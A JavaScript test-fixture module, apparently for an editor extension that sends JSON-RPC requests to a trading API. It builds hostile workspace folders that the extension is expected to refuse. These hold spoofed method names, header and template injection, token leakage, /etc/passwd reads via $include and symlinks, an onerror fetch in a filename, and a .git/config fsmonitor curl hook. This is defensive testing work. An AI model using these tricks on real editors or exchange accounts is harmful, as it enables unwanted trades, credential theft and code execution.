// @ts-check
/** Folders with request and environment files that mean something else than they seem to: many fit into one window. */

/** @typedef {import("./workspaces.mjs").Fixture} Fixture */
/** @typedef {import("./workspaces.mjs").Names} Names */
/** @typedef {import("./workspaces.mjs").Expected} Expected */
/** @typedef {Omit<Fixture, "id" | "threat" | "needs">} Made */
/** @typedef {readonly [id: string, threat: string, make: (names: Names) => Made]} Row */

const X = "RPC_HOSTILE_CANARY";

/** Ways in which programs fill the environment, a secret or the result of a command into a text. */
const PLACEHOLDERS = [
  "${env:X}",
  "${env.X}",
  "${X}",
  "$X",
  "%X%",
  "{{X}}",
  "{{$X}}",
  "{{$env.X}}",
  "{{env.X}}",
  "{{process.env.X}}",
  "{{$processEnv X}}",
  "{{$dotenv X}}",
  "{{$shared X}}",
  "${workspaceFolder}/${env:X}",
  "${command:tradingRpc.order.cancelAll}",
  "${input:X}",
  "${config:tradingRpc.url}",
  "$(printenv X)",
  "`printenv X`",
  "<%= process.env.X %>",
  "#{ENV['X']}",
  "{{{X}}}",
  "[[X]]",
  "@{X}",
  "${{ env.X }}",
  "${{ secrets.X }}",
  "${X:-y}",
  "{%X%}",
  "{{constructor.constructor('return process')()}}",
  "{{__proto__.X}}",
  "{{$session.accessToken}}",
  "{{$session.refreshToken}}",
  "{{$connection.clientSecret}}",
  "{{$secret.X}}",
  "{{$var.X}}",
];

/** @param {string} syntax @returns {string} */
const named = (syntax) => syntax.replaceAll("X", X);

/** @param {string} text */
const quoted = (text) => JSON.stringify(text);

/** @param {string} method @param {string} [params] */
const request = (method, params = "{}") => `{ "method": ${quoted(method)}, "params": ${params} }\n`;

/** A read that no view makes, with a text of the fixture in it. @param {string} text */
const read = (text) =>
  request("public/get_last_trades_by_instrument", `{ "instrument_name": ${quoted(text)}, "count": 1 }`);

/**
 * A folder whose one request file is sent, which is refused before anything leaves, unless `expected` says otherwise.
 * @param {Made["files"][string]} text
 * @param {Expected} [expected]
 * @param {Made["files"]} [files] more of the folder
 * @returns {Made}
 */
const one = (text, expected = "refused", files = {}) => ({
  files: { "a.rpc.json": text, ...files },
  drive: { send: "a.rpc.json", expected },
});

/** @param {Record<string, string>} variables of every kind of connection */
const environment = (variables) => ({ "rpc.env.json": `${JSON.stringify({ "*": variables })}\n` });

/** @param {string} text */
const wide = (text) => `${" ".repeat(600)}${text}`;

/** @param {unknown} value */
const deep = (value) => `${"[".repeat(70)}${JSON.stringify(value)}${"]".repeat(70)}`;

/** @type {readonly Row[]} */
const TRICKS = [
  ["method-twice", "T8", () => one('{ "method": "public/get_time", "method": "private/cancel_all", "params": {} }\n')],
  [
    "params-twice",
    "T8",
    () => one('{ "method": "private/cancel", "params": { "order_id": "A" }, "params": { "order_id": "B" } }\n'),
  ],
  [
    "name-twice-escaped",
    "T8",
    () => one('{ "method": "public/get_time", "meth\\u006fd": "private/cancel_all", "params": {} }\n'),
  ],
  [
    "far-to-the-right",
    "T8",
    () =>
      one(
        `{ "method": "public/get_time", "params": {} }${wide(', { "method": "private/cancel_all", "params": {} }')}\n`,
        { read: 'public/get_time","params":{}' },
      ),
  ],
  [
    "far-below",
    "T8",
    () =>
      one(`[\n{ "method": "public/get_time" }${"\n".repeat(10_000)}, { "method": "private/cancel_all" }\n]\n`, {
        asked: /Line 10002: private\/cancel_all/,
      }),
  ],
  ["bidi-method", "T8", () => one(request("private/\u202ellA_lecnac\u202c"))],
  [
    "bidi-comment",
    "T8",
    () =>
      one(
        '{ "method": "private/cancel_all" /* \u202e } \u2066"emit_teg/cilbup" :"dohtem" {\u2069 */, "params": {} }\n',
        { asked: /Send private\/cancel_all on TEST canary/ },
      ),
  ],
  ["zero-width-method", "T8", () => one(request("private/cancel\u200b_all"))],
  ["homoglyph-method", "T8", () => one(request("priv\u0430te/cancel_all"))],
  ["homoglyph-read", "T8", () => one(request("public/get_t\u0456me"))],
  ["full-width-method", "T8", () => one(request("\uff50rivate/cancel_all"))],
  [
    "escaped-method",
    "T8",
    () =>
      one('{ "method": "priv\\u0061te\\/cancel_all", "params": {} }\n', {
        asked: /Send private\/cancel_all on TEST canary/,
      }),
  ],
  ["case-of-method", "T8", () => one(request("Private/Cancel_All"))],
  ["blank-in-method", "T8", () => one(request(" private/cancel_all "))],
  ["null-in-method", "T8", () => one('{ "method": "public/get_time\\u0000private/cancel_all", "params": {} }\n')],
  ["line-in-method", "T8", () => one('{ "method": "public/get_time\\nprivate/cancel_all", "params": {} }\n')],
  [
    "comment-ends-line",
    "T8",
    () =>
      one(
        '// harmless \u0085 { "method": "public/get_time" } \u000b\n{ "method": "private/cancel_all", "params": {} }\n',
        { asked: /Send private\/cancel_all on TEST canary/ },
      ),
  ],
  ["deep", "T8", () => one(request("private/get_mmp_config", `{ "index_name": ${deep("any")} }`))],
  [
    "prototype",
    "T8",
    () =>
      one(
        request(
          "private/cancel",
          '{ "__proto__": { "order_id": "A" }, "constructor": { "prototype": { "order_id": "B" } } }',
        ),
      ),
  ],
  [
    "many-at-once",
    "T8",
    () =>
      one(
        `[\n${Array.from({ length: 200 }, (_, index) => request("private/cancel", `{ "order_id": "A-${index}" }`).trim()).join(",\n")}\n]\n`,
        { asked: /Send 200 requests/ },
      ),
  ],
  [
    "unknown-write",
    "T8",
    () =>
      one(request("private/withdraw_everything", '{ "to": "somebody" }'), {
        asked: /private\/withdraw_everything \{"to":"somebody"\} on TEST canary/,
      }),
  ],
  [
    "raw-message",
    "T8",
    () => one('{ "jsonrpc": "2.0", "id": 1, "method": "private/cancel_all", "params": {}, "result": {} }\n'),
  ],
  [
    "number-as-text",
    "T8",
    () =>
      one(request("private/edit", '{ "order_id": "A", "amount": "1e400", "price": 9007199254740993 }'), {
        asked: /"amount":"1e400","price":9007199254740993/,
      }),
  ],
  ["token", "T9", () => one(request("private/cancel_all", '{ "access_token": "1554372800983.1C2EL5uX.n0tAt0ken" }'))],
  [
    "refresh-token",
    "T9",
    () =>
      one(
        request("public/exchange_token", '{ "refresh_token": "1554372800983.1C2EL5uX.n0tAt0ken", "subject_id": 7 }'),
        { asked: /With a refresh token that stands in the file/ },
      ),
  ],
  [
    "client-secret",
    "T9",
    () =>
      one(
        request(
          "public/auth",
          '{ "grant_type": "client_credentials", "client_id": "x", "client_secret": "hUnter2hUnter2" }',
        ),
      ),
  ],
  [
    "token-deep",
    "T9",
    () =>
      one(
        request(
          "private/get_mmp_config",
          '{ "index_name": { "list": [ { "access_token": "1554372800983.1C2EL5uX.n0tAt0ken" } ] } }',
        ),
      ),
  ],
  [
    "token-as-label",
    "T9",
    () =>
      one(
        request(
          "private/buy",
          `{ "instrument_name": "BTC-PERPETUAL", "amount": 10, "label": "{{$session.refreshToken}}" }`,
        ),
      ),
  ],
  [
    "token-of-session",
    "T9",
    () =>
      one(request("public/exchange_token", '{ "refresh_token": "{{$session.refreshToken}}", "subject_id": 7 }'), {
        asked: /Switch to account 7 on TEST canary/,
      }),
  ],
  [
    "password-by-name",
    "T9",
    () =>
      one(
        request(
          "private/create_api_key",
          '{ "max_scope": "trade:read", "name": "{{$session.accessToken}}", "api_secret": "aB3dE6gH9jK2mN5p" }',
        ),
      ),
  ],
  [
    "schema-remote",
    "T10",
    ({ url }) => ({
      ...one(`{ "$schema": "${url}schema.json", "method": "public/get_time" }\n`, { read: "public/get_time" }),
      isFetchedByEditor: true,
    }),
  ],
  [
    "schema-command",
    "T10",
    () =>
      one('{ "$schema": "command:tradingRpc.order.cancelAll", "method": "public/get_time" }\n', {
        read: "public/get_time",
      }),
  ],
  [
    "reference",
    "T10",
    ({ url }) =>
      one(
        `{ "method": "public/get_time", "params": { "$ref": "${url}x.json", "$include": "../../../etc/passwd" } }\n`,
        { read: "../../../etc/passwd" },
      ),
  ],
  [
    "address-as-method",
    "T4",
    ({ url }) => one(`{ "method": "${url}x", "params": {}, "$run": { "transport": "http" } }\n`),
  ],
  [
    "address-by-slashes",
    "T4",
    ({ host }) => one(`{ "method": "//${host}/x", "params": {}, "$run": { "transport": "http-get-query" } }\n`),
  ],
  [
    "address-by-user",
    "T4",
    ({ host }) => one(`{ "method": "@${host}/x", "params": {}, "$run": { "transport": "http" } }\n`),
  ],
  [
    "path-upwards",
    "T4",
    () => one('{ "method": "public/../../../control/cancel", "params": {}, "$run": { "transport": "http" } }\n'),
  ],
  [
    "query-in-method",
    "T4",
    () => one('{ "method": "private/cancel?order_id=A#", "params": {}, "$run": { "transport": "http-get-query" } }\n'),
  ],
  [
    "header-in-method",
    "T4",
    () => one('{ "method": "public/get_time\\r\\nHost: evil", "params": {}, "$run": { "transport": "http" } }\n'),
  ],
  [
    "placeholder-in-method",
    "T4",
    () => one(`{ "method": "private/{{X}}", "params": { "{{X}}": 1 } }\n`, "refused", environment({ X: "cancel_all" })),
  ],
  [
    "environment-injects",
    "T4",
    () =>
      one(
        request("public/get_last_trades_by_instrument", '{ "instrument_name": "{{X}}", "count": 1 }'),
        { read: 'A\\"}}, {\\"method' },
        environment({ X: 'A"}}, {"method":"private/cancel_all","params":{"a":"' }),
      ),
  ],
  [
    "environment-endpoint",
    "T1",
    ({ wsUrl, url }) =>
      one(read("X"), "refused", {
        "rpc.env.json": `{ "*": { "url": "${wsUrl}", "baseUrl": "${url}", "clientSecret": "x" }, "$url": "${wsUrl}", "$connection": "${wsUrl}" }\n`,
      }),
  ],
  ["environment-allow", "T4", () => one(read("X"), "refused", { "rpc.env.json": '{ "$allow": ["prod"] }\n' })],
  [
    "environment-allow-wider",
    "T4",
    () =>
      one(request("private/cancel_all"), "refused", {
        "rpc.env.json": '{ "$allow": ["*", "sim", "test", "production"], "$confirm": false, "$readOnly": false }\n',
      }),
  ],
  [
    "environment-prototype",
    "T4",
    () =>
      one(read("{{toString}} {{__proto__}}"), "refused", {
        "rpc.env.json": '{ "__proto__": { "toString": "x" }, "*": { "__proto__": "y" } }\n',
      }),
  ],
  [
    "environment-local",
    "T4",
    () =>
      one(
        read("{{X}}"),
        { read: "${env:" },
        { "rpc.env.json": '{ "*": { "X": "A" } }\n', "rpc.env.local.json": `{ "*": { "X": "\${env:${X}}" } }\n` },
      ),
  ],
  [
    "environment-large",
    "T11",
    () =>
      one(
        read("{{v1}}"),
        { read: '"instrument_name":"1"' },
        {
          "rpc.env.json": `{ "*": { ${Array.from({ length: 20_000 }, (_, index) => `"v${index}": "${index}"`).join(", ")} } }\n`,
        },
      ),
  ],
  ["environment-link", "T11", () => one(read("{{root}}"), "refused", { "rpc.env.json": { link: "/etc/passwd" } })],
  [
    "options-regex",
    "T11",
    () =>
      one('{ "method": "public/get_time", "$run": { "expect": { "result": { "matches": "^(a+)+$" } } } }\n', {
        read: "public/get_time",
      }),
  ],
  [
    "options-repeat",
    "T11",
    () =>
      one(
        '{ "method": "private/cancel_all", "$run": { "repeat": 1000000000, "everyMs": 0, "confirm": false, "timeoutMs": -1 } }\n',
      ),
  ],
  [
    "options-target",
    "T1",
    ({ wsUrl }) =>
      one(
        `{ "method": "private/cancel_all", "$run": { "connection": "${wsUrl}", "url": "${wsUrl}", "target": "${wsUrl}" }, "$connection": "${wsUrl}" }\n`,
      ),
  ],
  ["curl-in-file", "T4", ({ url }) => one(`curl -X POST "${url}private/cancel_all" -H "Authorization: Bearer x"\n`)],
  [
    "file-of-17-megabytes",
    "T11",
    () => one(`[\n${`${request("private/cancel_all").trim()},\n`.repeat(17 * 20_000)}{}]\n`),
  ],
  [
    "not-utf-8",
    "T11",
    () => one({ bytes: Buffer.from('{ "method": "private/cancel_all\xff\xfe", "params": {} }', "latin1") }),
  ],
  ["link-outside", "T11", () => one({ link: "/etc/passwd" })],
  [
    "name-is-a-link",
    "T17",
    () => ({
      files: { "[Send](command:tradingRpc.order.cancelAll).rpc.json": request("private/cancel_all") },
      drive: {
        send: "[Send](command:tradingRpc.order.cancelAll).rpc.json",
        expected: { asked: /Send private\/cancel_all on TEST canary/ },
      },
    }),
  ],
];

/**
 * Files that the editor finds hard to list or to read: beside them its search finds others no more.
 * @type {readonly Row[]}
 */
const ODD = [
  [
    "binary",
    "T11",
    () => ({
      files: { "a.rpc.json": { bytes: Uint8Array.from({ length: 4096 }, (_, index) => (index * 131) % 256) } },
    }),
  ],
  [
    "utf-16",
    "T11",
    () => ({ files: { "a.rpc.json": { bytes: Buffer.from(`\ufeff${request("private/cancel_all")}`, "utf16le") } } }),
  ],
  [
    "link-to-itself",
    "T11",
    () => ({ files: { "a.rpc.json": { link: "a.rpc.json" }, "b.rpc.json": request("private/cancel_all") } }),
  ],
  ["pipe", "T11", () => ({ files: { "a.rpc.json": { pipe: true }, "b.rpc.json": request("private/cancel_all") } })],
  ["folder-as-file", "T11", () => ({ files: { "a.rpc.json/rpc.env.json/a.rpc.json": request("private/cancel_all") } })],
  [
    "name-is-html",
    "T54",
    ({ host }) => ({
      files: { [`<img src=x onerror=fetch(${host.replace(":", "%3a")})>.rpc.json`]: request("private/cancel_all") },
    }),
  ],
  [
    "name-has-icons",
    "T19",
    () => ({ files: { "$(verified) $(zap) PRODUCTION.rpc.json": request("private/cancel_all") } }),
  ],
  ["name-is-reversed", "T20", () => ({ files: { "emit\u202enosj.cpr.daer.rpc.json": request("private/cancel_all") } })],
  ["name-has-lines", "T21", () => ({ files: { "a\nSent to TEST\r\nb.rpc.json": request("private/cancel_all") } })],
  [
    "document-with-links",
    "T54",
    ({ url }) => ({
      files: {
        "NOTES.md": `[run](command:tradingRpc.order.cancelAll?%5B%5D) <a href="command:tradingRpc.request.sendAll">x</a> ![](${url}beacon.png)\n`,
        "notes.ipynb": `{"cells":[{"cell_type":"markdown","metadata":{},"source":["<img src='${url}n.png'>"]}],"metadata":{},"nbformat":4,"nbformat_minor":5}\n`,
      },
    }),
  ],
  [
    "git-hooks",
    "T7",
    ({ url }) => ({
      files: {
        ".git/config": `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl ${url}\n[remote "origin"]\n\turl = ${url}\n`,
        ".git/HEAD": "ref: refs/heads/main\n",
        "a.rpc.json": request("private/cancel_all"),
      },
    }),
  ],
];

/** What is written between two braces has to exist; everything else is a text like any other, and sent as it stands. */
const FILLED = PLACEHOLDERS.map((syntax, index) => {
  const expected = /\{\{[^{}]*\}\}/.test(syntax) ? "refused" : { read: JSON.stringify(named(syntax)) };
  return /** @type {Row} */ ([
    `placeholder-${String(index + 1).padStart(2, "0")}`,
    "T4",
    () => one(read(named(syntax)), expected),
  ]);
});

/** @returns {readonly Row[]} */
export const requestFiles = () => [...TRICKS, ...FILLED];

/** @returns {readonly Row[]} each for a window of its own */
export const oddFiles = () => ODD;
